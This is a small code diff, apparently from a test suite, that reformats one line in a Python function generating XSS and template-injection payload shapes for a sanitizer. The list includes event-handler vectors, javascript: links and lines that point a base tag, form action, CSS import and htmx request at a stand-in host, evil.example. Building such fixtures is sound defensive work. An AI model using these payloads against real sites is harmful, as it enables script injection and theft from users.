@@ -37,7 +37,8 @@ def hostile() -> list[str]:
         "<a href=javascript:{0}>x</a>", "<details open ontoggle={0}>", "<body onload={0}>", "<input autofocus onfocus={0}>",
         "<math><mtext></mtext><script>{0}</script></math>", "<style>@import '//evil.example'</style>{0}", "{{{{{0}}}}}", "${{{0}}}",
         "{{% {0} %}}", "<video><source onerror={0}>", "<x x-data x-init={0}>", "<div hx-get=//evil.example hx-trigger=load>{0}</div>",
-        "<base href=//evil.example><script src=x>{0}</script>", "<form action=//evil.example><button>{0}", "<!--<img src=--><img src=x onerror={0}//>",
+        "<base href=//evil.example><script src=x>{0}</script>", "<form action=//evil.example><button>{0}",
+        "<!--<img src=--><img src=x onerror={0}//>",
         "<template><script>{0}</script></template>",
     ]  # fmt: skip
     return [shape.format(call) for shape in shapes for call in calls]
